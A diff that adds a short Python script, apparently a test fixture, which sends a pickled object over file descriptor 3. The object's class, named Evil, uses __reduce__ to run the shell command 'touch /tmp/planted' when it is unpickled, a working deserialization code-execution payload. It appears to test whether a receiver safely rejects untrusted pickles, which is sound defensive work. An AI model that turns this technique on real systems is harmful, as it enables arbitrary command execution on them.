@@ -1,0 +1,18 @@
+# state: crashed
+import os
+import struct
+
+
+def send(head, body=b""):
+    os.write(3, struct.pack(">II", len(head), len(body)) + head + body)
+
+
+import pickle
+
+
+class Evil:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/planted",)
+
+
+send(b'{"value": {"tensor": "0"}, "token": "t"}', pickle.dumps(Evil()))
